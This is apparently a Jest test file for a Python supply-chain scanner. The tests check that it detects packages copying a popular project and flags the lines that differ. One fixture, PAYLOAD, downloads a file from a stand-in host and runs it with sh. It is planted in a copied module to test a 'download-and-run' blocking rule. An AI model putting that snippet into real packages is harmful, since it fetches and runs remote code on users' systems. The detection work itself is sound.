import { afterEach, describe, expect, test } from '@jest/globals';
import { type ContentEvidence, readContent } from '../../src/evidence/delta.js';
import { createProfiler } from '../../src/evidence/profiler.js';
import { createMemoryCache } from '../../src/host/memory-cache.js';
import { found } from '../../src/model/fetched.js';
import type { Finding } from '../../src/model/finding.js';
import { normalizeName } from '../../src/model/names.js';
import { DEFAULT_POLICY } from '../../src/model/policy.js';
import type { PopularProjects } from '../../src/model/popular.js';
import { type Project, releaseOf } from '../../src/model/release.js';
import { rules } from '../../src/rules/catalog.js';
import { checkRules } from '../../src/rules/check.js';
import { realReader } from '../profile/harness.js';
import type { ServedProject } from '../support/index-server.js';
import { dependencyChange, lockedPackage, version } from '../support/model.js';
import { closeAll, openIndex } from '../support/opened-index.js';
import { sdist } from '../support/sdist.js';
import { type BuiltDistribution, type Files, wheel } from '../support/wheel.js';

afterEach(closeAll);

const POPULAR: PopularProjects = {
  rankOf: new Map([
    [normalizeName('courier'), 1],
    [normalizeName('py-parcel'), 2],
  ]),
  date: '2026-01-01',
  details: new Map([[normalizeName('py-parcel'), { modules: ['parcel'], commands: [], repository: null }]]),
  standardModules: new Set(),
};

/** What the copied project holds: a client that uses the network, as its trade is. */
const LIBRARY: Files = {
  'courier/__init__.py': 'from .api import get\n',
  'courier/api.py': 'import urllib.request\n\ndef get(url):\n    return urllib.request.urlopen(url).read()\n',
  'courier/errors.py': 'class CourierError(Exception):\n    pass\n',
  'courier/models.py': 'class Response:\n    pass\n',
  'courier/tools/__init__.py': '# tools\n',
};
const PAYLOAD =
  'import subprocess, urllib.request\nopen("/tmp/x", "wb").write(urllib.request.urlopen("https://files.example.invalid/x").read())\nsubprocess.Popen(["sh", "/tmp/x"])\n';

const under = (top: string, files: Files = LIBRARY): Files =>
  Object.fromEntries(Object.entries(files).map(([path, text]) => [path.replace('courier/', `${top}/`), text]));

const COURIER: ServedProject = {
  name: 'courier',
  files: [
    served(wheel(LIBRARY, { name: 'courier', version: '2.0' }), '2025-01-01T00:00:00Z'),
    served(
      wheel({ ...LIBRARY, 'courier/models.py': '# old\n' }, { name: 'courier', version: '1.0' }),
      '2024-01-01T00:00:00Z',
    ),
  ],
};

function served({ filename, bytes }: BuiltDistribution, uploadTime: string) {
  return { filename, bytes, uploadTime };
}

interface Newcomer {
  readonly name: string;
  readonly files: readonly { readonly built: BuiltDistribution; readonly uploadTime: string }[];
}

const newcomer = (name: string, ...built: readonly BuiltDistribution[]): Newcomer => ({
  name,
  files: built.map((one) => ({ built: one, uploadTime: '2026-05-30T00:00:00Z' })),
});

interface Read extends ContentEvidence {
  readonly findings: readonly Finding[];
}

/** Adds the newcomer's newest release to a lockfile, on an index that has the project it may copy. */
async function read({ name, files }: Newcomer, head = '3.0'): Promise<Read> {
  const projects = [COURIER, { name, files: files.map(({ built, uploadTime }) => served(built, uploadTime)) }];
  const { client, route } = await openIndex({ projects });
  const project = await client.project(normalizeName(name), route);
  if (project.kind !== 'found') throw new Error('the newcomer must be listed');
  const release = releaseOf(project.value, version(head));
  if (release === null) throw new Error('its release must be listed');
  const tools = {
    index: client,
    cache: createMemoryCache(),
    profiler: createProfiler({ threads: null, python: realReader, expectsMany: false }),
  };
  const to = lockedPackage({ name: normalizeName(name), version: version(head) });
  const change = { ...dependencyChange(null, to), to };
  const content = await readContent(change, project.value, release, { ...route, isPyPI: true }, tools, {
    popular: POPULAR,
    platforms: [],
  });
  return { ...content, findings: judge(change, project.value, content) };
}

function judge(
  change: ReturnType<typeof dependencyChange>,
  project: Project,
  content: ContentEvidence,
): readonly Finding[] {
  const evidence = {
    change,
    project: found(project),
    release: null,
    advisories: null,
    provenance: null,
    domains: null,
    health: null,
    repository: null,
    ...content,
  };
  return checkRules({
    rules,
    evidence: [evidence],
    diff: { changes: [change], options: [], problems: [] },
    locks: [],
    policy: DEFAULT_POLICY,
    popular: POPULAR,
    now: Date.UTC(2026, 5, 1),
  }).findings;
}

const baselineOf = ({ delta }: ContentEvidence) => (delta?.kind === 'found' ? delta.value.baseline : delta);
const of = (ruleId: string, { findings }: Read) => findings.filter((finding) => finding.ruleId === ruleId);

describe('a copy is held against what it copies', () => {
  test('under another name with the same modules', async () => {
    const evidence = await read(newcomer('speedy-http', wheel(LIBRARY, { name: 'speedy-http', version: '3.0' })));

    expect(baselineOf(evidence)).toEqual({ kind: 'copied-project', name: 'courier', version: '2.0' });
    expect(of('copy-of-popular-project', evidence)).toMatchObject([
      {
        level: 'warn',
        message: expect.stringContaining('is a copy of courier 2.0: 5 of its 6 Python files are the same'),
      },
    ]);
  });

  test('with the package renamed, and only the changed lines stand out', async () => {
    const files = under('couriers', { ...LIBRARY, 'courier/models.py': `class Response:\n    pass\n\n${PAYLOAD}` });
    const evidence = await read(newcomer('couriers', wheel(files, { name: 'couriers', version: '3.0' })));

    expect(of('copy-of-popular-project', evidence)[0]?.message).toMatch(
      /4 of its 5 Python files are the same, couriers\/models\.py differs/u,
    );
    expect(of('download-and-run', evidence)).toMatchObject([{ level: 'block' }]);
    expect(of('download-and-run', evidence)[0]?.message).toContain('courier 2.0 (which it copies) did not');
  });

  test('of the same version as the head where there is one', async () => {
    const evidence = await read(
      newcomer(
        'speedy-http',
        wheel({ ...LIBRARY, 'courier/models.py': '# old\n' }, { name: 'speedy-http', version: '1.0' }),
      ),
      '1.0',
    );

    expect(baselineOf(evidence)).toMatchObject({ version: '1.0' });
  });

  test('from a source tree', async () => {
    const evidence = await read(newcomer('py-courier', sdist(LIBRARY, { name: 'py-courier', version: '3.0' })));

    expect(baselineOf(evidence)).toMatchObject({ kind: 'copied-project', name: 'courier' });
  });
});

describe('what is no copy has no such baseline', () => {
  const own: Files = { 'courier/__init__.py': 'x = 1\n', 'courier/other.py': 'y = 2\n', 'courier/more.py': 'z = 3\n' };

  test.each([
    { name: 'code of its own under the same module', files: own },
    {
      name: 'one borrowed file among its own',
      files: { ...own, 'courier/errors.py': LIBRARY['courier/errors.py'] ?? null },
    },
    { name: 'another module', files: { 'moonlight/__init__.py': 'x = 1\n' } },
  ])('$name', async ({ files }) => {
    const evidence = await read(newcomer('moonlight', wheel(files, { name: 'moonlight', version: '3.0' })));

    expect(baselineOf(evidence)).toMatchObject({ kind: 'none' });
    expect(of('copy-of-popular-project', evidence)).toEqual([]);
  });

  test('a fork with a history, whose own release is the better baseline', async () => {
    const built = ['1.0', '2.0', '2.5', '3.0'].map((number) =>
      wheel(LIBRARY, { name: 'speedy-http', version: number }),
    );
    const files = built.map((one, at) => ({ built: one, uploadTime: `202${at + 2}-05-30T00:00:00Z` }));
    const evidence = await read({ name: 'speedy-http', files });

    expect(baselineOf(evidence)).toMatchObject({ kind: 'earlier-release', version: '2.5' });
  });

  test('a popular project that cannot be read', async () => {
    const evidence = await read(
      newcomer(
        'py-parcel-fork',
        wheel({ 'parcel/__init__.py': 'x = 1\n' }, { name: 'py-parcel-fork', version: '3.0' }),
      ),
    );

    expect(baselineOf(evidence)).toMatchObject({ kind: 'none' });
  });
});
